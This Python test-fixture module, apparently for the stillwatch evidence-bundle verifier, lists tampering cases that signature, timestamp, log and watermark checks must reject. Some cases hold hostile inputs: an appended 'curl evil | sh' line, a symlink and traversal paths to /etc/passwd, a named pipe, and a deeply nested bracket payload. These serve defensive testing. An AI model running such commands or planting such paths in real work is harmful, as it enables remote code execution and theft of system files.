"""Ways to tamper with a bundle: each names the steps of which one has to refuse it.

`FILES` change files and leave signatures alone.  `RESIGNED` are what the signers themselves might
do afterwards: they change parts, then digest, sign and stamp everything anew with their own keys.
"""

from __future__ import annotations

import base64
import hashlib
import json
import os
import shutil
from datetime import timedelta

from stillwatch.ledger import SigningKey, canonical
from stillwatch.prove.evidence import LocalSigner
from stillwatch.prove.watermark import Draw, GreenRed, KeyBook

__all__ = ["FILES", "RESIGNED", "edit", "resign", "set_to"]

LONG_AGO, LATER, FUTURE = (f"{day}T00:00:00Z" for day in ("2020-01-01", "2026-06-01", "2100-01-01"))


def edit(path, change):
    held = json.loads(path.read_bytes())
    changed = change(held)
    path.write_bytes(canonical(held if changed is None else changed))


def envelope(bundle, change):
    edit(bundle / "statement.dsse.json", change)
    path = bundle / "statement.dsse.json"
    path.write_bytes(path.read_bytes() + b"\n")


def statement(bundle, change):
    def inner(held):
        said = json.loads(base64.b64decode(held["payload"]))
        changed = change(said)
        raw = canonical(said if changed is None else changed)
        held["payload"] = base64.b64encode(raw).decode()

    envelope(bundle, inner)


def flip(path, at=-2):
    raw = bytearray(path.read_bytes())
    raw[at % len(raw)] ^= 1
    path.write_bytes(bytes(raw))


def lines(path, change):
    path.write_bytes(b"".join(change(path.read_bytes().splitlines(keepends=True))))


def first(bundle, pattern):
    return min(bundle.glob(pattern))


def set_to(*keys, value):
    def change(held):
        for key in keys[:-1]:
            held = held[key]
        held[keys[-1]] = value

    return change


def drop(*keys):
    def change(held):
        for key in keys[:-1]:
            held = held[key]
        del held[keys[-1]]

    return change


def link(bundle, _world):
    (bundle / "parts" / "link").symlink_to("/etc/passwd")


def linked_part(bundle, _world):
    part = bundle / "parts" / "case.json"
    part.rename(bundle.parent / "elsewhere.json")
    part.symlink_to(bundle.parent / "elsewhere.json")


def swap_stamps(bundle, _world):
    one, two = sorted(bundle.glob("stamps/*.0.tsr"))
    held = one.read_bytes()
    one.write_bytes(two.read_bytes())
    two.write_bytes(held)


def foreign_signature(bundle, _world):
    key = SigningKey.generate("foreign")

    def change(held):
        held["signatures"][0]["sig"] = base64.b64encode(key.sign(b"x")).decode()

    envelope(bundle, change)


def swapped_key(bundle, world):
    """Somebody else signs in the signer's name, with keys and stamps that fit each other."""
    mine = world.folder / "mallory.key"
    if not mine.exists():
        SigningKey.generate("mallory").write(mine)
    signer = LocalSigner(mine)
    spki = base64.b64encode(signer.public.spki).decode()
    statement(bundle, set_to("predicate", "signers", 0, "key", value=spki))
    resign(bundle, world, {0: signer})


def one_authority(bundle, _world):
    for path in bundle.glob("stamps/*.1.tsr"):
        path.unlink()
    again(bundle)


def twice_one_authority(bundle, _world):
    for path in bundle.glob("stamps/*.1.tsr"):
        shutil.copyfile(path.with_name(path.name.replace(".1.", ".0.")), path)
    again(bundle)


def unknown_authority(bundle, world):
    from authority import TestAuthority  # noqa: PLC0415 - path set by the conftest

    folder = world.folder / "unknown"
    other = world.unknown = getattr(world, "unknown", None) or TestAuthority(folder, "unknown")
    path = first(bundle, "stamps/*.0.tsr")
    held = json.loads((bundle / "statement.dsse.json").read_bytes())
    sig = next(s for s in held["signatures"] if s["keyid"].startswith(path.name.split(".")[0]))
    path.write_bytes(other.stamp(base64.b64decode(sig["sig"])))


def again(bundle):
    from stillwatch.prove.evidence.commands import write_text  # noqa: PLC0415

    write_text(bundle)


def resign(bundle, world, signers=None, change=None):
    """Digest, sign and stamp a bundle anew: what its own signers can do."""
    from stillwatch.prove.evidence import digests_of, sign, stamp  # noqa: PLC0415
    from stillwatch.prove.evidence.statement import Envelope  # noqa: PLC0415

    keys = {n: LocalSigner(world.folder / f) for n, f in enumerate(("sign.key", "expert.pem"))}
    keys |= signers or {}
    path = bundle / "statement.dsse.json"
    held = json.loads(Envelope.decode(path.read_bytes()).content)
    held["subject"] = []
    for part in sorted(p for p in (bundle / "parts").rglob("*") if p.is_file()):
        made = digests_of(part)
        held["subject"].append(
            {
                "name": part.relative_to(bundle).as_posix(),
                "digest": {"sha256": made.sha256, "merkle-1mib": made.merkle},
            }
        )
    held["subject"].sort(key=lambda one: one["name"])
    if change:
        change(held)
    body = base64.b64encode(canonical(held)).decode()
    kind = "application/vnd.in-toto+json"
    path.write_bytes(canonical({"payload": body, "payloadType": kind, "signatures": []}) + b"\n")
    shutil.rmtree(bundle / "stamps", ignore_errors=True)
    shutil.rmtree(bundle / "signers")
    (bundle / "signers").mkdir()
    for key in keys.values():
        (bundle / "signers" / f"{key.public.key_id[:16]}.pem").write_bytes(key.public.pem)
        sign(bundle, key)
    for pinned, authority in zip(world.trust.authorities, world.authorities, strict=True):
        stamp(bundle, pinned, authority.stamp)


def part(name, change):
    return lambda bundle, world: edit(bundle / "parts" / name, change)  # noqa: ARG005


def of_envelope(change):
    return lambda bundle, world: envelope(bundle, change)  # noqa: ARG005


def of_statement(change):
    return lambda bundle, world: statement(bundle, change)  # noqa: ARG005


def of_lines(name, change):
    return lambda bundle, world: lines(bundle / name, change)  # noqa: ARG005


def flipped(pattern, at=-2):
    return lambda bundle, world: flip(first(bundle, pattern), at)  # noqa: ARG005


def removed(pattern):
    return lambda bundle, world: first(bundle, pattern).unlink()  # noqa: ARG005


def added(name, raw=b"x"):
    def change(bundle, _world):
        (bundle / name).parent.mkdir(parents=True, exist_ok=True)
        (bundle / name).write_bytes(raw)

    return change


def spaced(bundle, _world):
    path = bundle / "statement.dsse.json"
    path.write_bytes(path.read_bytes().replace(b'":', b'": '))


def pipe(bundle, _world):
    os.mkfifo(bundle / "parts" / "pipe")


def nested(bundle, _world):
    (bundle / "statement.dsse.json").write_bytes(b"[" * 100_000)


PARTS = (
    "accounts.commits", "case.json", "daily/*.json", "daily/last.note", "daily/places.jsonl",
    "exchanges.commits", "lineage/plan.json", "lineage/results.json", "lineage/transcripts/*",
    "marks/*.note", "marks/*.json", "moments/0.0.tsr", "terms/*", "notices/*",
)  # fmt: skip
PREDICATE = ("title", "made", "stillwatch", "signers", "log_keys", "marks_keys", "members")

FILES = {
    **{f"flipped bit in {name}": ("E-7", flipped(f"parts/{name}")) for name in PARTS},
    **{f"removed {name}": ("E-7", removed(f"parts/{name}")) for name in PARTS},
    **{
        f"statement without {name}": ("E-3 E-4", of_statement(drop("predicate", name)))
        for name in PREDICATE
    },
    "another title": ("E-4", of_statement(set_to("predicate", "title", value="other"))),
    "another time": ("E-4", of_statement(set_to("predicate", "made", value=LONG_AGO))),
    "another version": ("E-4", of_statement(set_to("predicate", "stillwatch", value="9"))),
    "another digest": (
        "E-4", of_statement(set_to("subject", 0, "digest", "sha256", value="0" * 64)),
    ),
    "another root": (
        "E-4", of_statement(set_to("subject", 0, "digest", "merkle-1mib", value="0" * 64)),
    ),
    "a subject less": ("E-4", of_statement(drop("subject", 0))),
    "subjects reordered": ("E-3", of_statement(lambda held: held["subject"].reverse())),
    "a subject twice": (
        "E-3", of_statement(lambda held: held["subject"].append(held["subject"][-1])),
    ),
    "a subject above the bundle": (
        "E-3", of_statement(set_to("subject", 0, "name", value="parts/../../etc/passwd")),
    ),
    "an absolute subject": ("E-3", of_statement(set_to("subject", 0, "name", value="/etc/passwd"))),
    "another predicate type": ("E-3", of_statement(set_to("predicateType", value="urn:other"))),
    "another statement type": ("E-3", of_statement(set_to("_type", value="urn:other"))),
    "an unknown field": ("E-3", of_statement(set_to("note", value="x"))),
    "no signer": ("E-3", of_statement(set_to("predicate", "signers", value=[]))),
    "a signer's other name": (
        "E-4", of_statement(set_to("predicate", "signers", 0, "name", value="other")),
    ),
    "payload of another type": ("E-2", of_envelope(set_to("payloadType", value="text/plain"))),
    "payload no base64": ("E-2 E-3", of_envelope(set_to("payload", value="!"))),
    "payload empty": ("E-2 E-3", of_envelope(set_to("payload", value=""))),
    "no signatures": ("E-4", of_envelope(set_to("signatures", value=[]))),
    "a signature less": ("E-4", of_envelope(drop("signatures", 0))),
    "the other signature less": ("E-4", of_envelope(drop("signatures", 1))),
    "a signature twice": (
        "E-4", of_envelope(lambda held: held["signatures"].append(held["signatures"][0])),
    ),
    "signatures swapped": ("E-4", of_envelope(
        lambda held: held.update(signatures=[
            {**held["signatures"][0], "sig": held["signatures"][1]["sig"]},
            {**held["signatures"][1], "sig": held["signatures"][0]["sig"]},
        ])
    )),
    "a signature of nothing": ("E-4", of_envelope(set_to("signatures", 0, "sig", value=""))),
    "a signature by another key": ("E-4", foreign_signature),
    "an envelope with spaces": ("E-2", spaced),
    "an envelope of brackets": ("E-2", nested),
    "an empty envelope": ("E-2", added("statement.dsse.json", b"")),
    "no envelope": ("E-1", removed("statement.dsse.json")),
    "a link": ("E-1", link),
    "a part that is a link": ("E-1", linked_part),
    "a pipe": ("E-1", pipe),
    "a hidden file": ("E-1", added("parts/.hidden")),
    "a file at the top": ("E-1", added("run.sh")),
    "a name with a newline": ("E-1", added("parts/a\nb")),
    "a part that nobody signed": ("E-7", added("parts/extra.txt")),
    "a member that nobody named": ("E-7 E-21", added("parts/members/x/statement.dsse.json", b"{}")),
    "another PEM": ("E-4", flipped("signers/*.pem", 60)),
    "no PEM": ("E-4", removed("signers/*.pem")),
    "a further PEM": ("E-4", added("signers/x.pem")),
    "a damaged timestamp": ("E-6", flipped("stamps/*.0.tsr")),
    "a damaged time": ("E-6", flipped("stamps/*.1.tsr", 120)),
    "an empty timestamp": ("E-6", lambda b, _w: first(b, "stamps/*.0.tsr").write_bytes(b"")),
    "timestamps swapped": ("E-6", swap_stamps),
    "one authority alone": ("E-6", one_authority),
    "one authority twice": ("E-6", twice_one_authority),
    "an unknown authority": ("E-6", unknown_authority),
    "a timestamp of no signature": ("E-6", added("stamps/0123456789abcdef.0.tsr")),
    "another account": ("E-9", of_lines("open/accounts.jsonl", lambda x: [
        x[0].replace(b'"a0"', b'"z0"'), *x[1:]])),
    "another salt": ("E-9", of_lines("open/accounts.jsonl", lambda x: [
        x[0].replace(b'"salt":"', b'"salt":"00')[:-1] + b"\n", *x[1:]])),
    "another prompt": ("E-9", of_lines("open/exchanges.jsonl", lambda x: [
        x[0].replace(b'"prompt 0"', b'"worse"'), *x[1:]])),
    "openings reordered": ("E-9", of_lines("open/exchanges.jsonl", lambda x: x[::-1])),
    "an opening twice": ("E-9", of_lines("open/exchanges.jsonl", lambda x: [x[0], *x])),
    "an opening of no record": ("E-9", of_lines("open/accounts.jsonl", lambda x: [
        *x, x[-1].replace(b'"index":1', b'"index":9')])),
    "an opening cut short": ("E-9", of_lines("open/accounts.jsonl", lambda x: [x[0][:-9]])),
    "an opening of no table": ("E-9", added("open/prompts.jsonl", b"")),
    "an opening of nothing": ("E-9", added("open/accounts.jsonl", b"null\n")),
    "other commands": ("E-22", of_lines("VERIFY.txt", lambda x: [*x, b"curl evil | sh\n"])),
    "fewer commands": ("E-22", of_lines("VERIFY.txt", lambda x: x[:-4])),
    "no commands": ("E-22", removed("VERIFY.txt")),
    "a swapped key": ("E-5", swapped_key),
}  # fmt: skip
"""Name of what is done to the steps that may refuse it, and the function that does it."""


def shifted(name, change):
    """Return a tampering of JSON lines of a transcript whose digest the results are made to fit."""

    def tamper(bundle, _world):
        path = bundle / "parts" / "lineage" / "transcripts" / name
        lines(path, change)
        digest = hashlib.sha256(path.read_bytes()).hexdigest()
        results = bundle / "parts" / "lineage" / "results.json"
        edit(results, set_to("transcripts", name, value=digest))

    return tamper


def early(world):
    return (world.now - timedelta(hours=1)).strftime("%Y-%m-%dT%H:%M:%SZ").encode()


def queried_before(bundle, world):
    shifted("suspect.jsonl", lambda x: [b'{"sent":"' + early(world) + b'"}\n', *x])(bundle, world)


def later_plan(bundle, _world):
    path = bundle / "parts" / "lineage" / "plan.json"
    held = json.loads(path.read_bytes())
    held["queries"] = 20
    raw = json.dumps(held).encode()
    path.write_bytes(raw)
    digest = hashlib.sha256(raw).hexdigest()
    edit(bundle / "parts" / "lineage" / "results.json", set_to("plan", value=digest))


def planned_otherwise(bundle, _world):
    """Another plan, of another key, with results that fit it: the stamp does not."""
    path = bundle / "parts" / "lineage" / "plan.json"
    held = json.loads(path.read_bytes())
    held["key_ids"] = ["0" * 16, "1" * 16]
    path.write_bytes(json.dumps(held).encode())
    digest = hashlib.sha256(path.read_bytes()).hexdigest()
    edit(bundle / "parts" / "lineage" / "results.json", set_to("plan", value=digest))


def results(change):
    return part("lineage/results.json", change)


def only(keep):
    return results(lambda held: held.update(results=[r for r in held["results"] if keep(r)]))


def first_leaf(held):
    held["leaf"] += 1
    return held


def places(change):
    def tamper(bundle, _world):
        path = bundle / "parts" / "daily" / "places.jsonl"
        held = [json.loads(line) for line in path.read_bytes().splitlines()]
        change(held)
        path.write_bytes(b"".join(canonical(one) + b"\n" for one in held))

    return tamper


def day_part(change):
    return lambda bundle, world: edit(first(bundle, "parts/daily/*.json"), change)  # noqa: ARG005


def swap_commits(bundle, _world):
    lines(bundle / "parts" / "exchanges.commits", lambda x: [x[1], x[0], *x[2:]])
    shutil.rmtree(bundle / "open")


def unstamped(name):
    def tamper(bundle, _world):
        def change(held):
            gone = [one for one in held["moments"] if name in one["part"]]
            for one in gone:
                held["moments"].remove(one)
                for stamp in one["stamps"]:
                    (bundle / stamp).unlink()

        edit(bundle / "parts" / "case.json", change)

    return tamper


def swap_moments(bundle, _world):
    one, two = bundle / "parts/moments/0.0.tsr", bundle / "parts/moments/1.0.tsr"
    held = one.read_bytes()
    one.write_bytes(two.read_bytes())
    two.write_bytes(held)


def rekeyed_log(bundle, _world):
    key = SigningKey.generate("lab.example/days").public.encode()
    statement(bundle, set_to("predicate", "log_keys", value=[key]))


def rekeyed_marks(bundle, _world):
    key = SigningKey.generate("lab.example/marks").public.encode()
    statement(bundle, set_to("predicate", "marks_keys", value=[key]))


def revealed(change):
    return part("marks/c-1.reveal.json", change)


def later_commitment(bundle, world):
    """A note that claims a time before its beacon's round, and was stamped after it."""
    seconds = int(world.now.timestamp())
    with KeyBook.writing(world.folder / "marks") as held:
        draw = Draw("beacon", 2, seconds - 50)
        note = held.commit("late", ["c-1"], GreenRed(), draw, seconds - 100)
    (bundle / "parts" / "marks" / "late.note").write_bytes(note)
    (bundle / "parts" / "moments" / "9.0.tsr").write_bytes(world.authorities[0].stamp(note))
    moment = {"part": "parts/marks/late.note", "stamps": ["parts/moments/9.0.tsr"]}
    edit(bundle / "parts" / "case.json", lambda held: held["moments"].append(moment))


def case(change):
    return part("case.json", change)


RESIGNED = {
    "queried before the plan": ("E-17", queried_before),
    "a later plan": ("E-17", later_plan),
    "the plan without a stamp": ("E-17", unstamped("plan.json")),
    "a key that was not planned": ("E-15", planned_otherwise),
    "a later commitment": ("E-16", later_commitment),
    "a commitment without a stamp": ("E-16", unstamped("marks/")),
    "a digest without a stamp": ("E-13", unstamped("daily/")),
    "stamps of other parts": ("E-13", swap_moments),
    "a dropped control": ("E-18", only(lambda r: r["subject"] != "unmarked")),
    "a dropped key": ("E-18", only(lambda r: r.get("key") != "k2")),
    "a dropped test": ("E-18", only(lambda r: r["test"] != "canaries")),
    "a result twice": ("E-18", results(lambda h: h["results"].append(h["results"][0]))),
    "an impossible p": ("E-18", results(set_to("results", 0, "p", value=-1))),
    "a result that says nothing": ("E-18", results(set_to("results", 0, "p", value=None))),
    "results of another plan": ("E-18", results(set_to("plan", value="0" * 64))),
    "another transcript": (
        "E-18", of_lines("parts/lineage/transcripts/suspect.jsonl", lambda x: x[1:]),
    ),
    "a transcript dropped": ("E-18", removed("parts/lineage/transcripts/unmarked.jsonl")),
    "a query without a time": ("E-17", shifted("suspect.jsonl", lambda x: [b"{}\n", *x])),
    "tests without a plan": ("E-10 E-17 E-18", removed("parts/lineage/plan.json")),
    "exchanges reordered": ("E-12", swap_commits),
    "a place dropped": ("E-12", places(lambda held: held.pop())),
    "a place too many": ("E-12", places(lambda held: held.append(held[0]))),
    "a place of another leaf": ("E-12", places(lambda held: first_leaf(held[0]))),
    "a place on no day": ("E-12", places(lambda held: held[0].update(day="2020-01-01"))),
    "a proof cut short": ("E-12", places(lambda held: held[0].update(proof=held[0]["proof"][1:]))),
    "a day of more exchanges": ("E-11", day_part(set_to("entry", "exchanges", value=41))),
    "a day of another root": ("E-11", day_part(set_to("entry", "root", value="0" * 64))),
    "another day": ("E-11", day_part(set_to("entry", "day", value="2020-01-01"))),
    "another place in the log": ("E-11", day_part(set_to("index", value=1))),
    "a log that does not go on": ("E-14", day_part(set_to("consistency", value=["00" * 32]))),
    "no last note": ("E-14", removed("parts/daily/last.note")),
    "another key of the log": ("E-11", rekeyed_log),
    "another key of marks": ("E-15", rekeyed_marks),
    "a revealed secret changed": ("E-15", revealed(set_to("secret", value="00" * 32))),
    "a revealed cohort changed": ("E-15", revealed(set_to("cohort", value="x"))),
    "a reveal without its note": ("E-10 E-15", removed("parts/marks/*.note")),
    "terms in force later": ("E-19", case(set_to("documents", 0, "at", value=LATER))),
    "custody out of order": ("E-19", case(lambda held: held["custody"].reverse())),
    "declared after signing": ("E-19", case(set_to("declared_at", value=FUTURE))),
    "a hold after signing": ("E-19", case(set_to("legal_hold", "at", value=FUTURE))),
    "missing evidence called held": ("E-20", case(lambda held: held["matrix"][5].update(
        held=held["matrix"][5]["missing"], missing=[]))),
    "a document that is not there": ("E-10", removed("parts/terms/*")),
    "a case of no campaign": ("E-10", case(set_to("campaigns", value=[]))),
    "a stamp of no part": ("E-10", added("parts/moments/9.0.tsr")),
    "a commitment that is none": (
        "E-9", of_lines("parts/accounts.commits", lambda x: [b"zz\n", *x]),
    ),
    "a member without signature": ("E-21", added("parts/members/x/statement.dsse.json", b"{}")),
}  # fmt: skip
"""As `FILES`, of changes that the signers make and sign."""
